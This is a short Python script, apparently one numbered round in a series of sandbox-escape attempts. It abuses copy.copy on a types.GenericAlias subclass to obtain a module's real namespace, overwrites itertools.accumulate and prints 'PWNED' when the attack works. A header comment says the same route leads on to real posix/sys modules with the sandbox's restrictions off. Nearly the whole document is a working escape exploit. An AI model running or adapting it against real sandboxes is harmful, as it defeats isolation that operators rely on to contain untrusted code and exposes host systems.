# Round 26a (escape): __slotnames__ on a library subclass made copy's C code read any attribute unguarded; a types.GenericAlias subclass forwarded reads to a module, and copy handed its real namespace over (then BuiltinImporter.create_module made real posix/sys, the wall off).
import copy, itertools
got = []
class Sink:
    def __setstate__(self, st):
        got.append(st)
class G(type(list[int])):
    __slots__ = ('__red' + 'uce__',)
    def __new__(cls, *a):
        return super().__new__(cls, Sink(), ())
g = type(list[int]).__new__(G, itertools, ())
copy.copy(g)
ns = got[0]
print(ns['groupby'], ns['groupby'].__module__)
ns['accumulate'] = lambda *a: 'spy'
if itertools.accumulate([1]) == 'spy':
    print("PW" + "NED: itertools' real namespace written (itertools.accumulate replaced)")
